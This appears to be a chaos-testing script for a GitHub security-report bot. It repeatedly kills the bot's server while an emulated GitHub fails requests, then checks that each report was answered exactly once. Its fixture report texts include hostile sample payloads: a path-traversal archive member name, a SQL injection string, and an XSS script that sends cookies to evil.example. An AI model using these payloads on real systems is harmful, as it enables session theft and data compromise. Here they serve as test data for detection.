"""Chaos: a real `secbot serve`, killed with kill -9 every few seconds, while GitHub fails a share of
its requests; afterwards every report must have been answered exactly once.

What runs, on loopback only:
- the GitHub emulator (bot/emulator), in this process, failing --fault-rate of the requests Secbot
  makes, at random and repeatably from --seed: 502, 503, a secondary rate limit (403 with
  Retry-After: 1 and GitHub's message), a dropped connection, and for writes the write made and
  then answered 502 or dropped. Its clock follows the wall clock;
- `secbot serve` (python -m bot serve) on a temporary SQLite file or, with --pg, on a fresh
  PostgreSQL database (dropped afterwards), killed with SIGKILL every --kill-every seconds (a
  random moment in the range) and started again at once, while work is left (at most --kills times);
- --deliveries webhook deliveries, signed as GitHub signs them, --pace a second: vulnerability
  reports in public issues and in comments (one repository redirects, one hides the report in a
  draft advisory), private reports (repository_advisory.reported; acknowledged on the advisory,
  with a tracker issue), ordinary issues, the installation (a repository without a private channel
  gets an onboarding issue), and --redeliver of them sent again later with the same
  X-GitHub-Delivery. A delivery that finds Secbot down is sent again with the same id (as a
  maintainer redelivers from the App's settings) until it is answered 2xx.

When every delivery was answered and the queue has settled, it counts, from what the emulator holds:
lost (a report not redirected, or not acknowledged on its advisory; a missing tracker issue, triage card, draft
advisory or onboarding issue), doubled (any of them more than once), stray (a write on an ordinary
issue, or a bot comment, issue or advisory that none of the above explains), dead jobs, and requests
GitHub's description refuses (violations). It exits 0 when all are zero. It stops by itself after
--max-seconds, counting what was not done as lost.

    .venv/bin/python bench/chaos.py [--deliveries 300] [--kill-every 2-4] [--kills N] [--fault-rate 0.2]
                                    [--seed 1] [--pace 10] [--redeliver 0.15] [--pg URL] [--max-seconds 900] [--json]
"""

from __future__ import annotations

import argparse
import asyncio
import collections
import datetime as dt
import functools
import os
import random
import shlex
import signal
import subprocess
import sys
import tempfile
import time
import uuid
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import orjson
import sqlalchemy as sa

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

from bot.emulator import GitHubState, run_emulator  # noqa: E402
from bot.emulator.state import FAULT_KINDS  # noqa: E402
from bot.render import find_marker  # noqa: E402
from bot.settings import async_database_url  # noqa: E402
from bot.store import Store  # noqa: E402

INSTALLATION = 987654
OWNER = "octo-org"
REDIRECTS = f"{OWNER}/hello-world"  # redirects public reports; private reports get a tracker issue
HIDES = f"{OWNER}/widgets"  # public_reports.action: hide
NO_CHANNEL = f"{OWNER}/old-lib"  # private reporting off, no SECURITY.md: one onboarding issue
TRACKER = f"{OWNER}/security-inbox"
MAINTAINER = "maint"
BOT = "secbot[bot]"
KINDS = {"issue": 25, "comment": 15, "private": 25, "hide": 10, "ordinary": 25}  # shares of the deliveries

VULNERABILITIES = [
    ("Path traversal in archive extraction allows writing outside the target dir ({n})",
     "Hi, I found a security issue in `extract_all()` (case {n}).\n\n### Steps to reproduce\n"
     "1. Create a tar with a member named `../../home/user/.bashrc`\n"
     "2. Call `hello.extract_all(\"evil.tar\", \"/tmp/out\")`\n"
     "3. The file is written outside `/tmp/out` (arbitrary file write, possible RCE).\n"
     "Affected: 2.3.0 and earlier. CWE-22.\n"),
    ("SQL injection in search endpoint ({n})",
     "The `q` parameter of /api/search is concatenated into the SQL query.\n"
     "Payload: `' OR 1=1 --` dumps every user's password hash. Attacker needs no login. Instance {n}."),
    ("Stored XSS in comment rendering ({n})",
     "Posting `<script>fetch('https://evil.example/?c='+document.cookie)</script>` as a comment executes in "
     "every visitor's browser; session cookies are stolen. Reproduced on v4.{n}. This is a cross-site "
     "scripting vulnerability."),
]
VULNERABLE_COMMENT = ("I think this is a security vulnerability: the upload handler does not check the path, so "
                      "`../../etc/passwd` as a filename overwrites files outside the upload dir. Remote attackers "
                      "can get code execution. PoC {n} attached.")
ORDINARY = [
    ("Crash when config file is empty ({n})", "Running `hello --config empty.yml` panics with IndexError. ({n})"),
    ("Support zip64 archives ({n})", "Would be nice to read archives over 4 GB. Case {n}."),
    ("Typo in README ({n})", "`recieve` should be `receive` in the install section ({n})."),
]


@dataclass
class Delivery:
    """A delivery, made when it is first sent: `make` opens its issue (comment, advisory) at GitHub and
    returns the event and payload, as GitHub sends them just after the reporter acted."""

    make: Callable[[], tuple[str, dict[str, Any]]]
    event: str = ""
    payload: dict[str, Any] = field(default_factory=dict)
    guid: str = field(default_factory=lambda: str(uuid.uuid4()))
    answered: bool = False

    def made(self) -> "Delivery":
        if not self.event:
            self.event, self.payload = self.make()
        return self


@dataclass
class Expect:
    """What must exist exactly once at the end, and where."""

    kind: str  # redirect, hide-redirect, comment-redirect, ack, tracker, card, draft, onboarding
    repo: str
    number: int | None = None  # issue
    ghsa: str | None = None  # advisory
    reporter: str | None = None


@dataclass
class Counts:
    deliveries: int = 0
    sends: int = 0
    redeliveries: int = 0
    refused: int = 0
    kills: int = 0
    seconds: float = 0.0
    answered_after: float = 0.0  # seconds until every delivery was answered 2xx
    settled_after: float = 0.0  # seconds until the queue settled
    requests: int = 0
    faults: dict[str, int] = field(default_factory=dict)
    expected: int = 0
    lost: int = 0
    doubled: int = 0
    stray: int = 0
    dead: int = 0
    violations: int = 0
    problems: list[str] = field(default_factory=list)

    @property
    def ok(self) -> bool:
        return not (self.lost or self.doubled or self.stray or self.dead or self.violations)


# -- GitHub as the run starts --------------------------------------------------------------------------


def seeded_state() -> GitHubState:
    state = GitHubState()
    state.add_installation(INSTALLATION, OWNER)
    state.add_repo(REDIRECTS, installation_id=INSTALLATION, pvr_enabled=True)
    state.add_repo(HIDES, installation_id=INSTALLATION, pvr_enabled=True)
    state.add_repo(NO_CHANNEL, installation_id=INSTALLATION, pvr_enabled=False)
    state.add_repo(TRACKER, installation_id=INSTALLATION, private=True, pvr_enabled=False)
    for repo in (REDIRECTS, HIDES, NO_CHANNEL, TRACKER):
        state.set_permission(repo, MAINTAINER, "maintain")
    state.put_file(REDIRECTS, ".github/secbot.yml", f"security_team:\n  users: [{MAINTAINER}]\n"
                                                     "tracker:\n  repo: security-inbox\n")
    state.put_file(HIDES, ".github/secbot.yml", f"security_team:\n  users: [{MAINTAINER}]\n"
                                                "public_reports:\n  action: hide\n")
    return state


def scenario(state: GitHubState, payloads: Any, n: int, rng: random.Random) -> tuple[list[Delivery], list[Expect],
                                                                                     list[tuple[str, int]]]:
    """The deliveries to send, what each report must lead to (filled in as the deliveries are made),
    and the ordinary issues."""
    deliveries = [Delivery(lambda: ("installation", payloads.installation("created", INSTALLATION)))]
    expects = [Expect("onboarding", NO_CHANNEL)]
    ordinary: list[tuple[str, int]] = []

    def public_issue(i: int, repo: str, who: str, title: str, body: str) -> tuple[str, dict[str, Any]]:
        issue = state.open_issue(repo, title=title, body=body, user=who)
        expects.append(Expect("redirect", repo, number=issue["number"], reporter=who))
        if repo == HIDES:
            expects.append(Expect("draft", repo, number=issue["number"], reporter=who))
        return "issues", payloads.issues("opened", repo, issue["number"], who)

    def public_comment(i: int, who: str, title: str, body: str) -> tuple[str, dict[str, Any]]:
        issue = state.open_issue(REDIRECTS, title=title, body=body, user=f"user-{i}")
        comment = state.add_comment(REDIRECTS, issue["number"], body=VULNERABLE_COMMENT.format(n=i), user=who)
        expects.append(Expect("redirect", REDIRECTS, number=issue["number"], reporter=who))
        return "issue_comment", payloads.issue_comment("created", REDIRECTS, issue["number"], comment["id"], who)

    def private_report(i: int, who: str, title: str, body: str) -> tuple[str, dict[str, Any]]:
        adv = state.report_vulnerability(REDIRECTS, summary=title, description=body, user=who)
        expects.append(Expect("ack", REDIRECTS, ghsa=adv["ghsa_id"], reporter=who))
        expects.append(Expect("tracker", TRACKER, ghsa=adv["ghsa_id"], reporter=who))
        expects.append(Expect("card", TRACKER, ghsa=adv["ghsa_id"], reporter=who))  # the triage card, once
        return "repository_advisory", payloads.repository_advisory("reported", REDIRECTS, adv["ghsa_id"], who)

    def ordinary_issue(i: int, title: str, body: str) -> tuple[str, dict[str, Any]]:
        issue = state.open_issue(REDIRECTS, title=title, body=body, user=f"user-{i}")
        ordinary.append((REDIRECTS, issue["number"]))
        return "issues", payloads.issues("opened", REDIRECTS, issue["number"], f"user-{i}")

    for i in range(1, n):
        kind = rng.choices(list(KINDS), weights=list(KINDS.values()))[0]
        who = f"reporter-{i}"
        state.add_user(who)
        title, body = (text.format(n=i) for text in rng.choice(VULNERABILITIES))
        o_title, o_body = (text.format(n=i) for text in rng.choice(ORDINARY))
        if kind in ("issue", "hide"):
            repo = REDIRECTS if kind == "issue" else HIDES
            make = functools.partial(public_issue, i, repo, who, title, body)
        elif kind == "comment":
            make = functools.partial(public_comment, i, who, o_title, o_body)
        elif kind == "private":
            make = functools.partial(private_report, i, who, title, body)
        else:
            make = functools.partial(ordinary_issue, i, o_title, o_body)
        deliveries.append(Delivery(make))
    return deliveries, expects, ordinary


# -- secbot serve, killed and started again ------------------------------------------------------------


class Server:
    """`secbot serve` in a process of its own."""

    def __init__(self, env: dict[str, str], port: int, workdir: Path) -> None:
        self.env, self.port, self.workdir = env, port, workdir
        self.log = workdir / "serve.log"
        self.proc: subprocess.Popen[bytes] | None = None

    async def start(self) -> None:
        out = self.log.open("ab")
        self.proc = subprocess.Popen([sys.executable, "-m", "bot", "serve"], env=self.env, cwd=self.workdir,
                                     stdout=out, stderr=out)
        out.close()
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            if self.proc.poll() is not None:
                raise RuntimeError(f"secbot serve exited:\n{self.log.read_text()[-3000:]}")
            try:
                _, writer = await asyncio.open_connection("127.0.0.1", self.port)
                writer.close()
                return
            except OSError:
                await asyncio.sleep(0.05)
        raise RuntimeError("secbot serve did not start listening")

    def children(self) -> list[int]:
        """Processes the server started (SQLite's writer), from /proc."""
        assert self.proc is not None
        found = []
        for stat in Path("/proc").glob("[0-9]*/stat"):
            try:
                fields = stat.read_text().rsplit(")", 1)[1].split()
            except (OSError, IndexError):
                continue
            if int(fields[1]) == self.proc.pid:
                found.append(int(stat.parent.name))
        return found

    async def kill9(self) -> None:
        """SIGKILL, then wait for SQLite's writer to finish its transaction and exit by itself."""
        assert self.proc is not None
        children = self.children()
        self.proc.send_signal(signal.SIGKILL)
        self.proc.wait(10)
        deadline = time.monotonic() + 15
        while any(_alive(pid) for pid in children) and time.monotonic() < deadline:
            await asyncio.sleep(0.05)

    def stop(self) -> None:
        if self.proc is not None and self.proc.poll() is None:
            self.proc.send_signal(signal.SIGTERM)
            try:
                self.proc.wait(30)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait(10)


def _alive(pid: int) -> bool:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0] != "Z"
    except (OSError, IndexError):
        return False


def free_port() -> int:
    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


# -- the run -------------------------------------------------------------------------------------------


async def settled(store: Store) -> tuple[bool, int]:
    """Whether every delivery's job is done and nothing runs or waits to be retried; and the dead."""
    async with store.engine.connect() as conn:
        rows = dict((await conn.execute(sa.text(
            "SELECT 'webhook_open', count(*) FROM jobs WHERE kind = 'webhook' AND state <> 'done' "
            "UNION ALL SELECT 'running', count(*) FROM jobs WHERE state = 'running' "
            "UNION ALL SELECT 'retrying', count(*) FROM jobs WHERE state = 'queued' AND last_error IS NOT NULL "
            "AND run_at < :soon "
            "UNION ALL SELECT 'dead', count(*) FROM jobs WHERE state = 'dead'"), {"soon": time.time() + 600})).all())
    quiet = rows["webhook_open"] == rows["dead"] and rows["running"] == 0 and rows["retrying"] == 0
    return quiet, int(rows["dead"])


async def run(args: argparse.Namespace, database_url: str, workdir: Path) -> Counts:
    counts = Counts()
    rng = random.Random(args.seed)
    state = seeded_state()
    started = time.monotonic()
    deadline = started + args.max_seconds
    async with run_emulator(state) as emu:
        deliveries, expects, ordinary = scenario(state, emu.payloads, args.deliveries, rng)
        counts.deliveries = len(deliveries)
        redelivered = rng.sample(deliveries, int(len(deliveries) * args.redeliver))
        faults = state.inject_faults(args.fault_rate, seed=args.seed, retry_after=1)
        port = free_port()
        env = {
            "PATH": os.environ.get("PATH", "/usr/bin:/bin"), "PYTHONPATH": str(ROOT),
            "DATABASE_URL": database_url, "GITHUB_APP_ID": str(state.app_id),
            "GITHUB_PRIVATE_KEY": state.private_key_pem, "GITHUB_WEBHOOK_SECRET": state.webhook_secret,
            "GITHUB_API_URL": emu.base_url, "HOST": "127.0.0.1", "PORT": str(port), "LOG_LEVEL": "INFO",
            "SECBOT_LEASE_SECONDS": "3", "SECBOT_RETRY_SECONDS": "0.2", "SECBOT_POLL_SECONDS": "0.1",
            "SECBOT_METRICS_PORT": "off",  # not the fixed default port: runs side by side must not collide
        }
        server = Server(env, port, workdir)
        state.webhook_url = f"http://127.0.0.1:{port}/webhook"
        store: Store | None = None
        clock_task = asyncio.create_task(_follow_wall_clock(state))
        try:
            await server.start()
            store = Store.open(async_database_url(database_url))
            sending = asyncio.create_task(_send_all(emu, deliveries, redelivered, args, rng, counts, deadline))
            killing = asyncio.create_task(_kill_while_busy(server, store, sending, args, rng, counts, deadline))
            await sending
            counts.answered_after = time.monotonic() - started
            await killing
            while time.monotonic() < deadline:
                quiet, _ = await settled(store)
                if quiet:
                    counts.settled_after = time.monotonic() - started
                    await asyncio.sleep(1.0)  # and still quiet a moment later
                    if (await settled(store))[0]:
                        break
                await asyncio.sleep(0.25)
            else:
                counts.problems.append(f"not settled after {args.max_seconds:.0f} s")
            _, counts.dead = await settled(store)
        finally:
            server.stop()
            if store is not None:
                await store.close()
            clock_task.cancel()
        counts.seconds = time.monotonic() - started
        counts.requests = len(state.requests)
        counts.faults = {kind: faults.injected.get(kind, 0) for kind in FAULT_KINDS}
        counts.expected = len(expects)
        check(state, expects, ordinary, counts)
    return counts


async def _follow_wall_clock(state: GitHubState) -> None:
    """GitHub's timestamps move with time (the bot's look-ups filter and sort by them)."""
    while True:
        state.set_now(dt.datetime.now(dt.timezone.utc).replace(microsecond=0))
        await asyncio.sleep(0.5)


async def _send_all(emu: Any, deliveries: list[Delivery], redelivered: list[Delivery], args: argparse.Namespace,
                    rng: random.Random, counts: Counts, deadline: float) -> None:
    """Send each delivery once at the pace asked, the chosen ones once more later; each is sent again
    (same id) until Secbot answers 2xx."""

    async def until_answered(d: Delivery) -> None:
        while time.monotonic() < deadline:
            counts.sends += 1
            status = await emu.deliver(d.event, d.payload, delivery_id=d.guid)
            if 200 <= status < 300:
                d.answered = True
                return
            counts.refused += 1
            await asyncio.sleep(0.3)

    async def again_later(d: Delivery) -> None:
        await asyncio.sleep(rng.uniform(0.5, 8.0))
        counts.redeliveries += 1
        await until_answered(d)

    tasks = []
    for d in deliveries:
        tasks.append(asyncio.create_task(until_answered(d.made())))
        if d in redelivered:
            tasks.append(asyncio.create_task(again_later(d)))
        await asyncio.sleep(1.0 / args.pace)
    await asyncio.gather(*tasks)
    missing = sum(1 for d in deliveries if not d.answered)
    if missing:
        counts.problems.append(f"{missing} deliveries never answered 2xx")


async def _kill_while_busy(server: Server, store: Store, sending: asyncio.Task[None], args: argparse.Namespace,
                           rng: random.Random, counts: Counts, deadline: float) -> None:
    low, high = args.kill_every
    while time.monotonic() < deadline and (args.kills is None or counts.kills < args.kills):
        await asyncio.sleep(rng.uniform(low, high))
        if sending.done() and (await settled(store))[0]:
            return
        await server.kill9()
        counts.kills += 1
        await server.start()


# -- the counts ----------------------------------------------------------------------------------------


def _bot(items: list[dict[str, Any]]) -> list[dict[str, Any]]:
    return [x for x in items if ((x.get("user") or x.get("author") or {}).get("login")) == BOT]


def check(state: GitHubState, expects: list[Expect], ordinary: list[tuple[str, int]], counts: Counts) -> None:
    """Count, for each expectation, what the emulator holds; and what no expectation explains."""
    explained: collections.Counter[str] = collections.Counter()
    found_per: list[int] = []
    for e in expects:
        if e.kind == "redirect":
            found = [c for c in _bot(state.comments(e.repo, e.number or 0)) if find_marker(c["body"], "redirect")]
            explained["comment"] += len(found)
        elif e.kind == "ack":
            found = [c for c in _bot(state.advisory_comments(e.repo, e.ghsa or ""))
                     if find_marker(c["body"], "to-reporter")]
            explained["advisory comment"] += len(found)
        elif e.kind == "tracker":
            found = [i for i in _bot(list(state.repo(TRACKER).issues.values())) if (e.ghsa or "?") in i["title"]]
            explained["issue"] += len(found)
        elif e.kind == "card":  # in the report's tracker issue (the hidden reports' repository has no tracker)
            issues = [i for i in _bot(list(state.repo(TRACKER).issues.values())) if (e.ghsa or "?") in i["title"]]
            found = [c for i in issues for c in _bot(state.comments(TRACKER, i["number"]))
                     if find_marker(c["body"], "triage-card")]
            explained["comment"] += len(found)
        elif e.kind == "draft":
            found = [a for a in _bot(list(state.repo(e.repo).advisories.values()))
                     if any(c["user"]["login"] == e.reporter for c in a.get("credits_detailed") or [])
                     or any(c.get("login") == e.reporter for c in a.get("credits") or [])]
            explained["advisory"] += len(found)
        else:  # onboarding
            found = [i for i in _bot(list(state.repo(e.repo).issues.values())) if find_marker(i["body"], "onboarding")]
            explained["issue"] += len(found)
        found_per.append(len(found))
        if len(found) != 1:
            counts.problems.append(f"{e.kind} for {e.repo} {e.number or e.ghsa or ''}: {len(found)}")
    counts.lost = sum(1 for n in found_per if n == 0)
    counts.doubled = sum(n - 1 for n in found_per if n > 1)

    for repo, number in ordinary:
        issue = state.issue(repo, number)
        if _bot(state.comments(repo, number)) or issue["labels"] or issue["assignees"] or issue["locked"]:
            counts.stray += 1
            counts.problems.append(f"an ordinary issue was written to: {repo}#{number}")
    present: collections.Counter[str] = collections.Counter()
    for repo in state.repos.values():
        for issue in repo.issues.values():
            present["comment"] += len(_bot(issue.get("_comments", [])))
        present["issue"] += len(_bot(list(repo.issues.values())))
        present["advisory"] += len(_bot(list(repo.advisories.values())))
        for comments in repo.advisory_comments.values():
            present["advisory comment"] += len(_bot(comments))
    for what in present:
        if present[what] > explained[what]:
            counts.stray += present[what] - explained[what]
            counts.problems.append(f"{present[what] - explained[what]} bot {what}(s) that no report explains")
    counts.violations = len(state.violations) + len(state.response_errors)
    counts.problems += [str(v) for v in state.violations[:5]] + state.response_errors[:5]


# -- command line --------------------------------------------------------------------------------------


def _range(text: str) -> tuple[float, float]:
    low, _, high = text.partition("-")
    return float(low), float(high or low)


def _command(argv: list[str]) -> str:
    return shlex.join([".venv/bin/python", "bench/chaos.py", *argv])


async def _with_database(args: argparse.Namespace, workdir: Path) -> Counts:
    if not args.pg:
        return await run(args, f"sqlite:///{workdir / 'secbot.db'}", workdir)
    name = f"secbot_chaos_{uuid.uuid4().hex[:10]}"
    admin = Store.open(async_database_url(args.pg), pool_size=1)
    async with admin.engine.connect() as conn:
        await (await conn.execution_options(isolation_level="AUTOCOMMIT")).execute(sa.text(f'CREATE DATABASE "{name}"'))
    try:
        return await run(args, args.pg.rsplit("/", 1)[0] + f"/{name}", workdir)
    finally:
        async with admin.engine.connect() as conn:
            await (await conn.execution_options(isolation_level="AUTOCOMMIT")).execute(
                sa.text(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)'))
        await admin.close()


def main(argv: list[str] | None = None) -> int:
    argv = list(sys.argv[1:] if argv is None else argv)
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--deliveries", type=int, default=300, help="deliveries to send (default 300)")
    parser.add_argument("--kill-every", type=_range, default=(2.0, 4.0), metavar="LOW-HIGH",
                        help="seconds between kills, a random moment in the range (default 2-4)")
    parser.add_argument("--kills", type=int, default=None, help="at most this many kills (default: while work is left)")
    parser.add_argument("--fault-rate", type=float, default=0.2, help="share of GitHub requests that fail (default 0.2)")
    parser.add_argument("--seed", type=int, default=1, help="seed of the scenario and of the faults (default 1)")
    parser.add_argument("--pace", type=float, default=10.0, help="deliveries sent a second (default 10)")
    parser.add_argument("--redeliver", type=float, default=0.15,
                        help="share of deliveries sent again later with the same id (default 0.15)")
    parser.add_argument("--pg", metavar="URL", help="run on a fresh database of this PostgreSQL server, not SQLite")
    parser.add_argument("--max-seconds", type=float, default=900.0, help="give up after this long (default 900)")
    parser.add_argument("--json", action="store_true", help="end with the counts as one JSON line")
    parser.add_argument("--keep", action="store_true", help="keep the work folder (database, serve.log)")
    args = parser.parse_args(argv)
    print(f"command: {_command(argv)}", flush=True)
    workdir = Path(tempfile.mkdtemp(prefix="secbot-chaos-"))
    counts = asyncio.run(_with_database(args, workdir))
    low, high = args.kill_every
    faults = sum(counts.faults.values())
    print(f"secbot serve on {'PostgreSQL' if args.pg else 'SQLite'}, seed {args.seed}, fault rate {args.fault_rate:.2f}, "
          f"a kill every {low:g}-{high:g} s")
    print(f"deliveries {counts.deliveries} (sent {counts.sends} times: {counts.redeliveries} redeliveries, "
          f"{counts.refused} refused or unanswered while Secbot was down), kills {counts.kills}")
    print(f"every delivery answered after {counts.answered_after:.1f} s, the queue settled after "
          f"{counts.settled_after:.1f} s, {counts.seconds:.1f} s in all")
    print(f"GitHub requests {counts.requests}, injected faults {faults}: "
          + ", ".join(f"{kind} {n}" for kind, n in counts.faults.items()))
    print(f"expected writes {counts.expected}: lost {counts.lost}, doubled {counts.doubled}, stray {counts.stray}; "
          f"dead jobs {counts.dead}; violations {counts.violations}")
    for problem in counts.problems[:20]:
        print(f"  {problem}")
    print(f"result: {'pass' if counts.ok else 'FAIL'}" + ("" if counts.ok or args.keep else f" (log: {workdir / 'serve.log'})"))
    if args.json:
        print(orjson.dumps({k: v for k, v in counts.__dict__.items()}).decode())
    if counts.ok and not args.keep:
        import shutil

        shutil.rmtree(workdir, ignore_errors=True)
    return 0 if counts.ok else 1


if __name__ == "__main__":
    raise SystemExit(main())
